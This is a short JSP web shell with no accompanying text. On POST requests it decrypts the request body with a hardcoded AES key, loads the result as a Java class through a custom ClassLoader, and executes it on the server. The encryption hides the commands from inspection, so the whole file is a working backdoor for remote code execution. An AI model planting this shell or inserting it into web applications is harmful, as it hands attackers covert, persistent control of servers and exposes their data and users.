<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!class G extends ClassLoader{G(ClassLoader c){super(c);}
public Class h(byte []b){return super.defineClass(b,0,b.length);}}%>
<%if (request.getMethod().equals("POST")){
  String k="863fae3b3141340e";
  session.setAttribute("u",k);
  Cipher c=Cipher.getInstance("AES");
  c.init(2,new SecretKeySpec(k.getBytes(),"AES"));
  new G(this.getClass().getClassLoader()).h(c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);
}%>
